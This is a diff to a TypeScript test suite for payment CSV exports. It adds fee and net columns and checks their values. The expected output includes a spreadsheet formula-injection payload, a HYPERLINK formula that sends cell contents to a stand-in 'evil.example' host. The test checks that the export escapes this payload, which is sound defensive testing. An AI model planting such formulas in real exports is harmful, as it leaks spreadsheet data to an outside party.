@@ -24,7 +24,7 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const HEADER = ['id', 'createdAt', 'paidAt', 'status', 'amount', 'currency', 'clientId', 'clubId', 'gatewayType', 'gatewayTransactionId', 'description',
+const HEADER = ['id', 'createdAt', 'paidAt', 'status', 'amount', 'currency', 'fee', 'net', 'clientId', 'clubId', 'gatewayType', 'gatewayTransactionId', 'description',
   'externalNumber', 'documentNumber', 'documentDate', 'tags', 'restrictRefund', 'deleted', 'refunded'];
 const col = (name: string) => HEADER.indexOf(name);
 
@@ -65,7 +65,7 @@ describe('CSV exports', () => {
     for (const input of made) ids.push((await topUp(t, shop, input)).transactionId);
     await t.deps.db.payment.update({
       where: { id: ids[0] },
-      data: { status: 'PARTIALLY_REFUNDED', confirmedAt: new Date('2026-12-01T20:15:00.250Z'), refundedAmount: '0.50', gatewayTransactionId: '+79990001122', tags: ['desk', '=cmd'], restrictRefund: true, documentDate: new Date('2026-11-30T18:30:00.000Z'), documentNumber: 'PP-17', externalNumber: 'INV-9' },
+      data: { status: 'PARTIALLY_REFUNDED', confirmedAt: new Date('2026-12-01T20:15:00.250Z'), refundedAmount: '0.50', fee: '6.26', gatewayTransactionId: '+79990001122', tags: ['desk', '=cmd'], restrictRefund: true, documentDate: new Date('2026-11-30T18:30:00.000Z'), documentNumber: 'PP-17', externalNumber: 'INV-9' },
     });
     await t.deps.db.payment.update({ where: { id: ids[1] }, data: { status: 'CONFIRMED', confirmedAt: new Date() } });
     await t.deps.db.payment.update({ where: { id: ids[2] }, data: { status: 'CANCELLED', deletedAt: new Date() } });
@@ -86,8 +86,9 @@ describe('CSV exports', () => {
     const byId = new Map(rows.map((r) => [r[0], r]));
     expect(byId.get(ids[3])![col('amount')]).toBe('99999999.99');
     expect(byId.get(ids[1])![col('amount')]).toBe('1000.00');
+    expect([byId.get(ids[1])![col('fee')], byId.get(ids[1])![col('net')]]).toEqual(['', '']); // no fee known
     expect(byId.get(ids[0])!.slice(col('status'))).toEqual([
-      'PARTIALLY_REFUNDED', '250.50', 'RUB', shop.clientId, 'club_abc123', 'SANDBOX', "'+79990001122",
+      'PARTIALLY_REFUNDED', '250.50', 'RUB', '6.26', '244.24', shop.clientId, 'club_abc123', 'SANDBOX', "'+79990001122",
       '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', 'INV-9', 'PP-17', '2026-12-01T00:00:00.000+05:30', "desk; =cmd", 'true', 'false', '0.50',
     ]);
     expect(byId.get(ids[1])![col('description')]).toBe('Абонемент, "Gold"\nдекабрь');
@@ -172,7 +173,7 @@ describe('CSV exports', () => {
     // a LIVE payment of the same organization is in the LIVE key's export, never in the TEST key's
     const template = await t.deps.db.payment.findUniqueOrThrow({ where: { id: ids[1] } });
     const { id: _id, ...rest } = template;
-    await t.deps.db.payment.create({ data: { ...rest, id: 'pay_live_export_0000000000001', environment: 'LIVE', idempotencyKey: null, gatewayTransactionId: null, metadata: {} } });
+    await t.deps.db.payment.create({ data: { ...rest, id: 'pay_live_export_0000000000001', environment: 'LIVE', idempotencyKey: null, gatewayTransactionId: null, metadata: {}, items: [] } });
     expect((await exportOf(undefined, shop.liveToken)).map((r) => r[0])).toEqual(['pay_live_export_0000000000001']);
     expect((await exportOf()).map((r) => r[0])).not.toContain('pay_live_export_0000000000001');
     const theirSaved = (await gqlOk('mutation { savePaymentFilter(name: "b", filter: {}) { id } }', {}, other.token)).savePaymentFilter.id;
